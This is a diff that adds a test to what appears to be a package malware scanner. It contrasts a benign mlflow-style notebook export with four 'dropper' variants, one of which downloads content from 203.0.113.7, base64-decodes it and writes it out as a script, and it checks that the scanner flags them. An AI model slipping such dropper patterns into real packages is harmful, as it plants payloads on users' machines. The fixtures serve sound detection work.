@@ -156,3 +156,48 @@ def test_attack_words_listed_in_a_json_rule_file_are_not_a_cradle(tmp_path: Path
     broken = _waf_rules(_CMDLETS)[:-1]
     for name, text in (("stored", stored), ("split", split), ("broken", broken)):
         assert cradle in yara_findings(tmp_path, name, text), name
+
+
+# mlflow 3.18.0 models/utils.py: the user's Databricks notebook, exported through the SDK
+_NOTEBOOK = """\
+import base64, os
+
+def _validate_and_get_model_code_path(model_code_path, temp_dir):
+    from databricks.sdk import WorkspaceClient
+    from databricks.sdk.service.workspace import ExportFormat
+
+    w = WorkspaceClient()
+    response = w.workspace.export(path=model_code_path, format=ExportFormat.SOURCE)
+    decoded_content = base64.b64decode(response.content)
+    path = os.path.join(temp_dir, "model.py")
+    with open(path, "wb") as f:
+        f.write(decoded_content)
+    return path
+"""
+
+
+def test_a_services_reply_decoded_into_a_script_is_not_a_carried_payload(
+    tmp_path: Path,
+) -> None:
+    assert exam(tmp_path, "models", {"utils.py": _NOTEBOOK}) == {}
+    payload = "thr-writes-payload"
+    # what the package carries, decoded into a script, is the dropper shape: a constant, a
+    # value its own modules hand back, a file it ships, or a download
+    carried = {
+        "blob": "_BLOB = 'aW1wb3J0IG9z'\n" + _NOTEBOOK.replace("response.content", "_BLOB"),
+        "own": _NOTEBOOK.replace(
+            "from databricks.sdk import WorkspaceClient", "from .store import WorkspaceClient"
+        ),
+        "shipped": _NOTEBOOK.replace(
+            "response.content", "open(os.path.join(temp_dir, 'data.bin'), 'rb').read()"
+        ),
+        "fetched": "import requests\n"
+        + _NOTEBOOK.replace(
+            "w.workspace.export(path=model_code_path, format=ExportFormat.SOURCE)",
+            "requests.get('https://203.0.113.7/m')",
+        ),
+    }
+    for name, text in carried.items():
+        assert exam(tmp_path, f"drop{name}", {"utils.py": text}).get(payload) == (
+            f"drop{name}/utils.py"
+        ), name
